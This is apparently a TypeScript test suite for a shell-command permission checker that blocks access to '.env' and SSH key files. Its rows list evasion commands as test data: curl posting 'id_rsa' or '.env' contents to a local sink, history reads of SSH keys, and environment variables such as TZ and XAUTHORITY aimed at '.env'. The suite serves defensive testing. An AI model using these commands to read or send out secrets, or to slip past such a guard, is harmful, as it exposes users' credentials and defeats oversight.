/**
 * Classes the strace rounds found open (issue 35), each closed as a class and
 * checked against the real program: every command below, run for real in the
 * hunt's sandbox (bubblewrap, strace, the red-team fixture), opens, makes or
 * replaces a file the hunt's P2 policy denies (`*.env`, `~/.ssh/*`) — the
 * judge's evidence is the oracle, so a row that stops doing so fails here —
 * and permc, deciding the same command in the same fixture, does not allow it.
 * A setup part runs before the command for the oracle only (it makes the
 * input the command needs, outside the fixture's denied paths); `{PROJ}` is
 * the fixture's project directory.
 *
 * K, writers given a directory or prefix; L, `history` with an expanded
 * operand; M, curl's `@file` values with expansions; P, decompressors that
 * write a name the file holds or the name without the suffix; `TZ=:FILE`; a
 * compressor's options from the environment (`XZ_OPT`); a variable's value
 * that a program opens, however it is spelt (`XAUTHORITY=envlink.txt`); a walker that
 * opens every file it meets (`rgrep`, `gzip -r`): denied, not asked; an
 * options file a program reads without being told (valgrind's `.valgrindrc`),
 * written by the same command.
 *
 * Needs bwrap and strace (npm test installs them): without them this fails.
 */
import { describe } from "vitest";
import { type ClassRow, type EverydayRow, realProgramBench } from "./class-rows.js";

const CURL_SINK = "http://127.0.0.1:9/";
const ROWS: readonly ClassRow[] = [
  // K: the directory or prefix is where the names it makes land.
  { command: "mktemp -p sshlink", aim: "ssh", want: "ask" },
  { command: "mktemp --tmpdir=sshlink", aim: "ssh", want: "ask" },
  { command: "split notes.txt sshlink/", aim: "ssh", want: "deny" },
  { command: "csplit -f sshlink/ notes.txt 1", aim: "ssh", want: "deny" },
  { command: "cp notes.txt s*k", aim: "ssh", want: "ask" },
  { command: "cp --parents notes.txt s*k", aim: "ssh", want: "ask" },
  { command: "mv notes.txt {x,sshlink}", aim: "ssh", want: "ask" },
  // L: bash expands history's file operand as any word's.
  { command: "history -r {sshlink,x}/id_rsa; history", aim: "ssh", want: "deny" },
  { command: "history -w s*/id_rsa", aim: "ssh", want: "deny" },
  // M: the file part of curl's data values.
  { command: `curl -s -d @{sshlink,x}/id_rsa ${CURL_SINK}`, aim: "ssh", want: "deny" },
  { command: `curl -s --data-urlencode x@$PWD/envlink.txt ${CURL_SINK}`, aim: "env", want: "deny" },
  { command: `curl -s -w @{sshlink,x}/id_rsa ${CURL_SINK}`, aim: "ssh", want: "deny" },
  // P: what a decompressor writes.
  { setup: "printf 'A=1\\n' | gzip > x.env.gz", command: "gunzip x.env.gz", aim: "env", want: "deny" },
  { setup: "printf 'A=1\\n' | gzip > x.env.gz", command: "gzip -d x.env.gz", aim: "env", want: "deny" },
  { setup: "printf 'A=1\\n' | xz > .env.xz", command: "unxz -f .env.xz", aim: "env", want: "deny" },
  { setup: "printf 'A=1\\n' > /tmp/.env && gzip -N /tmp/.env && mv /tmp/.env.gz x.gz", command: "gunzip -N -f x.gz", aim: "env", want: "ask" },
  // TZ names a zone file the C library reads in whatever runs (relative to /usr/share/zoneinfo).
  { command: "TZ=:{PROJ}/.env date", aim: "env", want: "deny" },
  { command: "env TZ=:{PROJ}/envlink.txt date", aim: "env", want: "deny" },
  { command: "TZ=:../../..{PROJ}/.env date", aim: "env", want: "deny" },
  { command: "TZ=:$PWD/.env date", aim: "env", want: "deny" },
  // A compressor's options from the environment: xz writes notes.txt.env (the word `.env` in the value meets *.env too).
  { command: "XZ_OPT='-S .env' xz notes.txt", aim: "env", want: "deny" },
  { command: "XZ_DEFAULTS='-kS .env' xz notes.txt", aim: "env", want: "deny" },
  // A variable's value is a file the program may open, whatever it is spelt like: these read .env through envlink.txt.
  { command: "XAUTHORITY=envlink.txt xauth list", aim: "env", want: "deny" },
  { command: "PGSERVICEFILE=envlink.txt psql service=x", aim: "env", want: "deny" },
  { command: "LESSHISTFILE=envlink.txt less notes.txt", aim: "env", want: "deny" },
  { command: "SSL_CERT_FILE=envlink.txt openssl s_client -connect 127.0.0.1:9", aim: "env", want: "deny" },
  { command: "export XAUTHORITY=envlink.txt; xauth list", aim: "env", want: "deny" },
  // Walkers that open every file they meet.
  { command: "rgrep SECRET .", aim: "env", want: "deny" },
  { command: "gzip -r .", aim: "env", want: "deny" },
  { command: "zstd -qrc . > /tmp/out.zst", aim: "env", want: "deny" },
  // An options file the program reads without being told, written first (found with the discovery's start-up files, 2026-12-06).
  { command: "echo '--log-file=.env' > .valgrindrc && valgrind true", aim: "env", want: "ask" },
];

/** Values that name no denied file: allowed, and the real program reaches nothing denied. */
const EVERYDAY: readonly EverydayRow[] = [
  { command: "LANG=C cat notes.txt", aim: "env" },
  { command: "XAUTHORITY=notes.txt xauth list", aim: "env" },
];

describe("closed-world round 3: each class against the real program", () => {
  const bench = realProgramBench();
  bench.classRows(ROWS);
  bench.everydayRows(EVERYDAY);
});
